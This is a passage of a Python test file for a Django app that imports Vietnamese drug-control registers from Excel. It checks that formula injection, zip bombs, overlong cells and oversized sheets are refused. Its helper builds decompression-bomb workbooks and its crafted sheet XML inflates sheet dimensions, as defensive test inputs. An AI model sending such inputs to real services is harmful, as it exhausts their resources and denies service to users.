    cell = load_workbook(io.BytesIO(data)).worksheets[0].cell(row=2, column=2)
    assert cell.data_type == "s"
    assert cell.value == text
    assert cell.quotePrefix


def test_report_sheets_write_user_text_as_text_too():
    from reports.output import _sheet

    workbook = Workbook()
    _sheet(workbook, "Bảng", ["Đơn vị", "Số"], [[FORMULA, 3]], [20, 8])
    buffer = io.BytesIO()
    workbook.save(buffer)
    sheet = load_workbook(io.BytesIO(buffer.getvalue()))["Bảng"]
    assert (sheet["A2"].data_type, sheet["A2"].value) == ("s", FORMULA)
    assert sheet["B2"].value == 3 and sheet["B2"].data_type == "n"


# ---------------------------------------------------------------- import bombs (issue 12 #8)


def _bomb(member: str, size: int) -> bytes:
    """A real workbook with one member replaced by `size` bytes of one repeated character."""
    source = zipfile.ZipFile(xlsx(PERSON_HEADERS, CLEAN_PERSONS))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
        for info in source.infolist():
            if info.filename != member:
                out.writestr(info, source.read(info.filename))
        with out.open(member, "w") as target:
            chunk = b"A" * (1024 * 1024)
            for _ in range(size // len(chunk)):
                target.write(chunk)
    return buffer.getvalue()


@pytest.mark.django_db
def test_a_small_file_that_expands_enormously_is_refused_before_parsing(tree, people):
    content = _bomb("xl/worksheets/sheet1.xml", 200 * 1024 * 1024)
    assert len(content) < 1024 * 1024
    started = time.perf_counter()
    with pytest.raises(excel.ImportFileError, match="giải nén ra quá lớn"):
        services.check_import(kind="persons", file=io.BytesIO(content), user=people.commune_police)
    assert time.perf_counter() - started < 5  # not parsed: a bound, not a timing measurement


@pytest.mark.django_db
def test_a_member_compressed_far_beyond_what_a_register_does_is_refused(tree, people):
    content = _bomb("xl/sharedStrings.xml", 20 * 1024 * 1024)
    with pytest.raises(excel.ImportFileError, match="nén bất thường"):
        services.check_import(kind="persons", file=io.BytesIO(content), user=people.commune_police)


@pytest.mark.django_db
def test_a_cell_longer_than_any_register_field_is_refused_with_its_place(tree, people):
    upload = xlsx(PERSON_HEADERS, [person_row(), person_row("x" * 20_000, cccd="")])
    with pytest.raises(excel.ImportFileError, match="Dòng 3, cột “Họ và tên”"):
        services.check_import(kind="persons", file=upload, user=people.commune_police)


@pytest.mark.django_db
def test_only_the_first_columns_are_read_and_too_many_rows_are_refused(tree, people, monkeypatch):
    from subjects.excel import reading

    wide = PERSON_HEADERS + [f"Cột {n}" for n in range(100)]
    check = services.check_import(
        kind="persons",
        file=xlsx(wide, [row + ["x"] * 100 for row in CLEAN_PERSONS]),
        user=people.commune_police,
    )
    assert check.ok, check.problems
    monkeypatch.setattr(reading, "MAX_ROWS", 1)
    with pytest.raises(excel.ImportFileError, match="quá nhiều dòng"):
        services.check_import(
            kind="persons", file=xlsx(PERSON_HEADERS, CLEAN_PERSONS), user=people.commune_police
        )


# ---------------------------------------------------------------- row numbers (issue 12 #14)


@pytest.mark.django_db
def test_row_numbers_are_shown_without_a_thousands_separator(tree, people, login, uploads):
    rows = [person_row(f"Người Thử {n}", cccd=f"0030{n:08d}") for n in range(5003)]
    rows.append(person_row("Lò Văn Cuối", cccd="123"))  # row 5005
    response = upload_file(login(people.commune_police), xlsx(PERSON_HEADERS, rows, streamed=True).getvalue())
    html = response.content.decode()
    assert '<td class="text-end">5005</td>' in html
    assert "5.005" not in html


# ---------------------------------------------------------------- the other registers


@pytest.mark.django_db
def test_treatments_files_commitments_and_points_import_with_their_templates(tree, people):
    person = PersonFactory(full_name="Lò Văn Sáng", cccd="001090000001", village=tree.ta_leng)
    cases = {
        "treatments": (
            [
                [
                    "",
                    "",
                    "001090000001",
                    "",
                    "Điều trị thay thế (Methadone / Buprenorphine)",
                    "Methadone",
                    "01/02/2023",
                    "",
                    "Cơ sở Methadone",
                    "Có",
                    "Không",
                ],
            ],
            lambda: list(
                person.treatments.values_list("kind", "medication", "complies_with_rules", "uses_other_drugs")
            ),
            [("substitution", "methadone", True, False)],
        ),
        "files": (
            [["", "", "001090000001", "", "Người nghiện ma túy", "05/01/2024", "Công an xã", ""]],
            lambda: list(person.files.values_list("kind", "opened_on", "responsible")),
            [("addict", dt.date(2024, 1, 5), "Công an xã")],
        ),
        "commitments": (
            [["Bản Tả Lèng", "", "01/04/2024", 80, 78]],
            lambda: list(HouseholdCommitment.objects.values_list("village", "kind", "households", "signed")),
            [(tree.ta_leng.pk, "drug_free", 80, 78)],
        ),
        "points": (
            [["Hô Sáo", "Điểm bán lẻ", "Lều rẫy cuối bản", "02/03/2024", ""]],
            lambda: list(DrugPoint.objects.values_list("village", "kind", "description", "eliminated_on")),
            [(tree.ho_sao.pk, "retail", "Lều rẫy cuối bản", None)],
        ),
    }
    for kind, (rows, stored, expected) in cases.items():
        workbook = load_workbook(io.BytesIO(excel.build_template(kind, user=people.commune_police)))
        headers = [c.value for c in workbook["Dữ liệu"][1]]
        sheet = workbook["Dữ liệu"]
        for offset, row in enumerate(rows, start=2):
            for column, value in enumerate(row, start=1):
                sheet.cell(row=offset, column=column, value=value)
        buffer = io.BytesIO()
        workbook.save(buffer)
        buffer.seek(0)
        check = services.check_import(kind=kind, file=buffer, user=people.commune_police)
        assert check.ok, (kind, headers, check.problems)
        result = services.apply_import(check=check, user=people.commune_police)
        assert result.created == len(rows)
        assert stored() == expected, kind
        # The same file again: the register's own unique rules or periods refuse nothing silently.
        buffer.seek(0)
        again = services.check_import(kind=kind, file=buffer, user=people.commune_police)
        if kind in ("commitments", "points"):
            assert not again.ok and "đã có" in again.problems[0].message.lower()


@pytest.mark.django_db
def test_rows_of_the_other_registers_are_refused_for_the_models_reasons(tree, people):
    PersonFactory(
        full_name="Lò Văn Sáng", cccd="001090000001", village=tree.ta_leng, birth_date=dt.date(1990, 1, 1)
    )
    files = services.check_import(
        kind="files",
        file=xlsx(
            [
                "Số CCCD",
                "Loại hồ sơ",
                "Ngày lập",
                "Người, tổ chức được giao quản lý",
                "Ngày kết thúc quản lý",
            ],
            [["001090000001", "Người nghiện ma túy", "05/01/2024", "Công an xã", "01/01/2024"]],
        ),
        user=people.commune_police,
    )
    assert problems_by_cell(files) == {
        (2, "Ngày kết thúc quản lý"): "Ngày kết thúc quản lý không được trước ngày lập hồ sơ."
    }
    commitments = services.check_import(
        kind="commitments",
        file=xlsx(
            ["Thôn, bản", "Tính đến ngày", "Tổng số hộ", "Số hộ đã ký"], [["Tả Lèng", "01/04/2024", 80, 81]]
        ),
        user=people.commune_police,
    )
    assert problems_by_cell(commitments) == {(2, "Số hộ đã ký"): "Số hộ đã ký không được lớn hơn tổng số hộ."}
    treatments = services.check_import(
        kind="treatments",
        file=xlsx(
            ["Số CCCD", "Hình thức", "Ngày bắt đầu"],
            [["001090000001", "Cai nghiện bắt buộc tại cơ sở", "01/01/1980"]],
        ),
        user=people.commune_police,
    )
    assert problems_by_cell(treatments) == {(2, "Ngày bắt đầu"): "Ngày bắt đầu không được trước ngày sinh."}


def _with_sheet(xml: bytes) -> bytes:
    """A real persons workbook whose first sheet is replaced by `xml`."""
    source = zipfile.ZipFile(xlsx(PERSON_HEADERS, CLEAN_PERSONS))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            out.writestr(
                info, xml if info.filename == "xl/worksheets/sheet1.xml" else source.read(info.filename)
            )
    return buffer.getvalue()


_SHEET = (
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    b'<row r="1"><c r="A1" t="inlineStr"><is><t>H\xe1\xbb\x8d v\xc3\xa0 t\xc3\xaan</t></is></c>'
    b'<c r="B1" t="inlineStr"><is><t>Ng\xc3\xa0y sinh</t></is></c></row>%s</sheetData></worksheet>'
)


@pytest.mark.django_db
@pytest.mark.parametrize(
    "rows",
    [
        b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',  # one far cell: 17 billion laid out
        b"<row>" + b"<c><v>1</v></c>" * 20_000 + b"</row>",  # cells without references, past XFD
        b"".join(b'<row r="%d"><c r="AX%d"><v>1</v></c></row>' % (n, n) for n in range(2, 200_002, 97)),
    ],
)
def test_a_sheet_reaching_far_beyond_a_register_is_refused_before_it_is_read(tree, people, rows):
    content = _with_sheet(_SHEET % rows)
    with pytest.raises(excel.ImportFileError, match="quá rộng cho một sổ theo dõi"):
        services.check_import(kind="persons", file=io.BytesIO(content), user=people.commune_police)
